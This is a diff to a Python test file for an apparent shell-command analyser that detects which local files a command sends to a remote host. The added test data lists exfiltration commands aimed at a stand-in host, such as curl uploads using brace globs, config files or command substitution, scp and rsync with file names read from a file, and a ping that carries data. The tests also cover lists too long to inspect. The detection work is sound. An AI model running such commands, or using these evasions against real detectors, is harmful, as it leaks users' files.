@@ -97,6 +97,23 @@ SENT = {
     "ping -c1 -p $(xxd -p a) e.com": {"send path /app/a -> e.com", "connect host e.com"},
 }
 
+LISTED = {
+    'curl -T "{a.bin,b.bin}" https://e.com/': {"/app/a.bin", "/app/b.bin"},
+    "curl --upload-file 'd{1,2}/{a,b}' https://e.com/": {"/app/d1/a", "/app/d1/b", "/app/d2/a", "/app/d2/b"},
+    "curl -T '{a}' https://e.com/": {"/app/a"},
+    'curl -T "part[1-2].bin" https://e.com/': {"/app/part1.bin", "/app/part2.bin"},
+    'curl -T "part[01-30].bin" https://e.com/': {"/app/part*.bin"},
+    "curl -T \"{$(echo *.bin | tr ' ' ,)}\" http://e.com/": {"/app/*.bin"},
+    'curl -T "{$(cat names)}" http://e.com/': {"**?", "/app/?*.*?"},
+    f"curl -T '{{{','.join(map(str, range(99)))}}}' http://e.com/": {"**?", "/app/?*.*?"},
+    "echo 'upload-file = \"{a,b}\"' > c; curl -K c http://e.com/": {"/app/a", "/app/b"},
+    "curl -g -T '{a,b}' http://e.com/": {"/app/{a,b}", "/app/a", "/app/b"},
+    "curl -F 'f=@a;type=text/plain,b' http://e.com/": {"/app/a", "/app/b"},
+    "cd /w; scp $(cat names) h:": {"**?", "/w/?*.*?"},
+    "cd /w; rsync $(cat names) h:/x": {"**?", "/w/?*.*?"},
+    "cd /w; scp d/$(cat names) h:": {"/w/d/**"},
+}
+
 NOT_SENT = [
     "scp h:/a .",
     "rsync -a a/ b/",
@@ -105,6 +122,7 @@ NOT_SENT = [
     "curl -o a https://e.com -H 'Authorization: Bearer x'",
     'curl -H "Authorization: Bearer $(cat token)" https://e.com',
     "curl -d @a http://localhost:80/",
+    "curl -T '{a,b}' http://localhost:80/",
     "wget -q https://e.com/a -O - | tar xz",
     "git clone https://e.com/r && git pull",
     "git push --dry-run",
@@ -132,6 +150,37 @@ NOT_SENT = [
 def test_what_leaves(command: str, expected: set[str]) -> None:
     done = {text for text in told(command) if not text.startswith(("shadow", "write path /app"))}
     assert {text for text in done if not text.endswith(("/b", "/b?")) or text in expected} == expected
+
+
+@pytest.mark.parametrize(("command", "files"), LISTED.items(), ids=[command[:60] for command in LISTED])
+def test_which_files_leave_by_a_list_or_under_names_nobody_knows(command: str, files: set[str]) -> None:
+    sent = [one for one in effects(command) if (one.verb, one.target.kind) == ("send", "path")]
+    assert {one.target.value + "?" * (one.certainty == "possible") for one in sent} == files
+
+
+MANY = [f"f{number}" for number in range(100)]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        f"scp {' '.join(MANY)} h:",
+        f"curl {' '.join(f'-T {name}' for name in MANY)} http://e.com/",
+        f"curl -T '{{{','.join(MANY[:60])}}}' -T '{{{','.join(MANY[60:])}}}' http://e.com/",
+    ],
+    ids=["scp", "curl", "lists"],
+)
+def test_a_file_that_leaves_behind_many_others_is_seen(command: str) -> None:
+    assert "send path /app/f99" in {text.partition(" ->")[0] for text in told(command)}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [f"scp {' '.join(map(str, range(2_000)))} h:", f"curl {' '.join(f'http://{name}/' for name in MANY)}"],
+    ids=["files", "addresses"],
+)
+def test_more_than_is_looked_at_is_undecided(command: str) -> None:
+    assert "undecided" in {one.verb for one in effects(command)}
 
 
 @pytest.mark.parametrize("command", NOT_SENT)
